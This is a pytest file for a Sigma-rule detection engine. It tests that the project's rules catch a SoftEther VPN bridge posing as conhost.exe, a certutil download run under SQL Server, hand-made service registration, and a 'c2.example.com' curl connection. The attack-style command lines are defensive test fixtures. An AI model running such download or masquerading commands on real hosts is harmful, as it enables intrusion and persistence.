"""Sigma: the project's own rules find what they are for, and what can't be evaluated is told."""

from pathlib import Path
from typing import Any

import polars as pl
import pytest

from seawall.exposure.detectors.sigma import Rules, matched
from tests.exposure.made import OURS, at, flow, flow_table, name, name_table

SYSTEM = "C:\\Windows\\System32\\"


def event(**fields: str) -> pl.DataFrame:
    usual = {"Image": "", "OriginalFileName": "", "ParentImage": "", "CommandLine": "", "Product": "", "Company": ""}
    return pl.DataFrame([{"ts": at("2024-05-02"), "host": "server", "file": 0, "line": 1, **usual, **fields}])


def titles(rules: Rules, **tables: pl.DataFrame) -> list[str]:
    return sorted(one.about for one in matched(rules, tables)[0])


@pytest.mark.parametrize(
    "fields, expected",
    [
        ({"Image": "C:\\PerfLogs\\conhost.exe", "OriginalFileName": "vpnbridge_x64.exe"}, ["Console Or COM Host Outside The Windows Folder", "SoftEther VPN Bridge Under The Name Of A Windows Program"]),
        ({"Image": SYSTEM + "conhost.exe", "OriginalFileName": "CONHOST.EXE"}, []),
        ({"Image": "c:\\windows\\SYSTEM32\\CONHOST.EXE"}, []),
        ({"Image": "C:\\Program Files\\SoftEther VPN Bridge\\vpnbridge_x64.exe", "Product": "SoftEther VPN"}, []),
        ({"Image": SYSTEM + "certutil.exe", "ParentImage": "D:\\sql\\sqlservr.exe", "CommandLine": "certutil -urlcache -f http://203.0.113.5/a"}, ["Download By Certutil Below SQL Server"]),
        ({"Image": SYSTEM + "certutil.exe", "ParentImage": SYSTEM + "cmd.exe", "CommandLine": "certutil -urlcache -f http://203.0.113.5/a"}, []),
        ({"Image": SYSTEM + "sc.exe", "CommandLine": "sc create x binPath= C:\\PerfLogs\\vpnbridge.exe start= auto"}, ["SoftEther Registered As A Service By Hand"]),
        ({"Image": SYSTEM + "sc.exe", "CommandLine": "sc query SEVPNBRIDGE"}, []),
    ],
)  # fmt: skip
def test_the_own_rules_find_the_masquerade_and_leave_windows_alone(fields: dict[str, str], expected: list[str]) -> None:
    assert titles(Rules.read(), process_creation=event(**fields)) == expected


def test_the_own_rules_are_all_read_and_each_names_its_techniques() -> None:
    rules = Rules.read()
    assert (len(rules.rules), rules.problems) == (5, ())
    assert all(rule.techniques for rule in rules.rules)


def test_names_are_asked_by_the_rule_for_dns() -> None:
    table = name_table(name("2024-05-02", "dns", "x1.x2.servers.nat-traversal.SOFTETHER-network.net"))
    found, problems = matched(Rules.read(), {"names": table})
    assert [(one.host, one.score) for one in found] == [(OURS, 0.5)]
    assert {problem.field for problem in problems} == {"logsource"}, "rules for which no logs were given are told"


RULE = """title: A Rule
id: 11111111-1111-1111-1111-111111111111
logsource:
  {source}
detection:
  one:
    {test}
  condition: {condition}
level: low
"""


def rule(folder: Path, test: str, source: str = "service: conn", condition: str = "one") -> Rules:
    (folder / "a.yml").write_text(RULE.format(test=test, source=source, condition=condition))
    return Rules.read(folder)


@pytest.mark.parametrize(
    "test, expected",
    [
        ("id.resp_p: 443", 1),
        ("id.resp_p: 44", 0),
        ("id.resp_p|gte: 400", 1),
        ("id.resp_p|lt: 400", 0),
        ("id.resp_h|cidr: 203.0.113.0/24", 1),
        ("id.resp_h|cidr: 203.0.112.0/24", 0),
        ("id.resp_h|startswith: '203.0'", 1),
        ("id.resp_h: '203.0.11?.5'", 1),
        ("id.resp_h: '203.0.11?'", 0),
        ("id.resp_h|re: '^203\\.[0-9.]+$'", 1),
        ("conn_state: sf", 1),
        ("conn_state|cased: sf", 0),
        ("service: null", 1),
    ],
)
def test_values_of_every_kind_mean_what_sigma_says(tmp_path: Path, test: str, expected: int) -> None:
    rows = flow_table(flow("2024-05-02", OURS, "203.0.113.5"))
    found, problems = matched(rule(tmp_path, test), {"flows": rows})
    assert (len(found), problems) == (expected, [])


def test_not_keeps_rows_in_which_the_field_is_missing(tmp_path: Path) -> None:
    rows = flow_table(flow("2024-05-02", OURS, "203.0.113.5"))
    assert titles(rule(tmp_path, "service: dns", condition="not one"), flows=rows) == ["A Rule"]


def test_two_kinds_of_names_of_one_connection_are_one_row_to_a_rule(tmp_path: Path) -> None:
    said: list[dict[str, Any]] = [
        name("2024-05-02", "http_host", "c2.example.com", uid="A"),
        name("2024-05-02", "user_agent", "curl/8", uid="A"),
        name("2024-05-02", "user_agent", "curl/8", uid="B"),
    ]
    both = rule(tmp_path, "host: c2.example.com\n    user_agent|startswith: curl", "service: http")
    (found,), _ = matched(both, {"names": name_table(*said)})
    assert found.rows == 1


@pytest.mark.parametrize(
    "test, source, why",
    [
        ("NoSuchField: x", "service: conn", "the field NoSuchField"),
        ("id.resp_h|fieldref: id.orig_h", "service: conn", "SigmaFieldReference"),
    ],
)
def test_what_cannot_be_evaluated_is_a_problem_and_no_silent_nothing(
    tmp_path: Path, test: str, source: str, why: str
) -> None:
    found, problems = matched(
        rule(tmp_path, test, source), {"flows": flow_table(flow("2024-05-02", OURS, "203.0.113.5"))}
    )
    assert found == []
    assert why in problems[0].why


@pytest.mark.parametrize("text", ["", "title: x", "a: [", "- 1", RULE.format(source="category: registry_set", test="a: b", condition="one"), RULE.format(source="service: conn", test="a: b", condition="two"), RULE.format(source="service: conn", test="a|re: '(?=x)'", condition="one"), "\udcff"])  # fmt: skip
def test_files_that_are_no_usable_rule_are_problems(tmp_path: Path, text: str) -> None:
    (tmp_path / "a.yml").write_bytes(text.encode("utf-8", "surrogateescape"))
    rules = Rules.read(tmp_path)
    assert (len(rules.rules), len(rules.problems)) == (0, 1)


def test_a_rule_that_the_logs_can_answer_in_part_is_asked_and_told() -> None:
    table = event(Image="C:\\PerfLogs\\conhost.exe", OriginalFileName="vpnbridge.exe").drop("Product", "Company")
    found, problems = matched(Rules.read(), {"process_creation": table})
    assert len(found) == 2
    assert any("lack the field(s) Company, Product" in problem.why for problem in problems)
